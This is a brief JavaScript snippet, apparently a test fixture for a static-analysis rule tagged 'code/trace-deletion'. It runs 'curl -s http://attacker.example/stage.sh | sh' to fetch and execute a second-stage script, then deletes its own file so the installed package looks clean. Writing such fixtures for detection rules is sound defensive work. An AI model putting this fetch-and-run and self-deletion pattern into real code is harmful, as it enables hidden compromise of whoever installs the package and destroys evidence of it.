// Runs the second stage, then removes itself so the installed package looks clean.
const fs = require('fs');
const { exec } = require('child_process');

exec('curl -s http://attacker.example/stage.sh | sh', () => {
  try {
    // ruleid: code/trace-deletion
    fs.unlinkSync(__filename);
  } catch (e) {
    // already gone
  }
});
